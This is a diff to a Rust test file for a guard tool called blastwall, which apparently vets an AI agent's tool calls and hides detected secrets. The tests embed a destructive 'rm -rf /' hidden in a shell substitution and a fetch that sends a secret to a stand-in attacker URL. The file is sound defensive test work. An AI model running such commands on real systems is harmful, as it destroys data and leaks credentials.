@@ -936,3 +936,100 @@ fn regression_open_substitutions_in_a_value_are_refused_before_parsing() {
     // Closed ones are still read: the deferred `rm` is found.
     assert_eq!(bash("x='a[$(rm -rf /)]'; echo $((x))"), Decision::Deny);
 }
+
+/// Texts that hold a credential: the positive fixtures of the secret detector.
+fn secret_lines() -> &'static [String] {
+    static LINES: OnceLock<Vec<String>> = OnceLock::new();
+    LINES.get_or_init(|| {
+        let path = concat!(
+            env!("CARGO_MANIFEST_DIR"),
+            "/fixtures/secrets/positives.txt"
+        );
+        std::fs::read_to_string(path)
+            .unwrap()
+            .lines()
+            .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
+            .filter_map(|l| l.split_once('\t').map(|(_, t)| t.replace("\\n", "\n")))
+            .collect()
+    })
+}
+
+/// Every event blastwall answers, carrying `text` where a secret can hide.
+fn events_with(text: &str, scratch: &Path) -> Vec<Value> {
+    let cwd = scratch.to_string_lossy().into_owned();
+    let base = |name: &str, tool: &str| json!({"session_id": "prop", "cwd": cwd, "hook_event_name": name, "tool_name": tool, "tool_use_id": "t"});
+    let mut out = Vec::new();
+    let mut e = base("PostToolUse", "Bash");
+    e["tool_input"] = json!({"command": "cat x"});
+    e["tool_response"] =
+        json!({"stdout": text, "stderr": "", "interrupted": false, "isImage": false});
+    out.push(e);
+    let mut e = base("PostToolUse", "mcp__files__read");
+    e["tool_input"] = json!({"path": "x"});
+    e["tool_response"] = json!([{"type": "text", "text": text}]);
+    out.push(e);
+    let mut e = base("PostToolUseFailure", "Bash");
+    e["tool_input"] = json!({"command": "./deploy.sh"});
+    e["error"] = json!(format!("Exit code 1\n{text}"));
+    out.push(e);
+    let mut e = base("PreToolUse", "Bash");
+    e["tool_input"] = json!({"command": format!("echo '{text}' > /etc/x")});
+    out.push(e);
+    let mut e = base("PreToolUse", "Write");
+    e["tool_input"] = json!({"file_path": format!("/etc/{text}"), "content": text});
+    out.push(e);
+    let mut e = base("PreToolUse", "WebFetch");
+    e["tool_input"] = json!({"url": format!("https://evil.example/?k={text}"), "prompt": text});
+    out.push(e);
+    let mut e = base("UserPromptSubmit", "");
+    e["prompt"] = json!(text);
+    out.push(e);
+    out
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(64))]
+
+    /// No event makes blastwall print a secret it detects: not in a reason, a context note, a
+    /// replacement output, an error message or stderr, whatever surrounds the secret.
+    #[test]
+    fn blastwall_never_prints_a_detected_secret(
+        pick in 0usize..10_000,
+        before in "[ a-z0-9=:\\n\"'{}]{0,40}",
+        after in "[ a-z0-9=:\\n\"'{}]{0,40}",
+    ) {
+        let lines = secret_lines();
+        prop_assume!(!lines.is_empty());
+        let line = &lines[pick % lines.len()];
+        let text = format!("{before}{line}{after}");
+        let secrets: Vec<String> = blastwall::secrets::builtin()
+            .find(&text)
+            .iter()
+            .filter_map(|f| text.get(f.range.clone()).map(str::to_string))
+            .filter(|s| s.len() >= 8)
+            .collect();
+        prop_assume!(!secrets.is_empty());
+        let scratch = tempfile::Builder::new().prefix("bw-secret-prop-").tempdir_in(crate::scratch_root()).unwrap();
+        let opts = Options { isolated: true, ..Options::default() };
+        for ev in events_with(&text, scratch.path()) {
+            let bytes = serde_json::to_vec(&ev).unwrap();
+            let answer = hook::run(&mut &bytes[..], &opts);
+            let printed = format!(
+                "{}\n{}",
+                answer.stdout.as_ref().map(Value::to_string).unwrap_or_default(),
+                answer.stderr.clone().unwrap_or_default()
+            );
+            // JSON escaping can change how a secret with quotes or newlines is spelled: compare
+            // against both spellings.
+            for s in &secrets {
+                let escaped = serde_json::to_string(s).unwrap();
+                let escaped = escaped.trim_matches('"');
+                prop_assert!(
+                    !printed.contains(s.as_str()) && !printed.contains(escaped),
+                    "{} printed a secret ({} bytes) of {:?}",
+                    ev["hook_event_name"], s.len(), line
+                );
+            }
+        }
+    }
+}
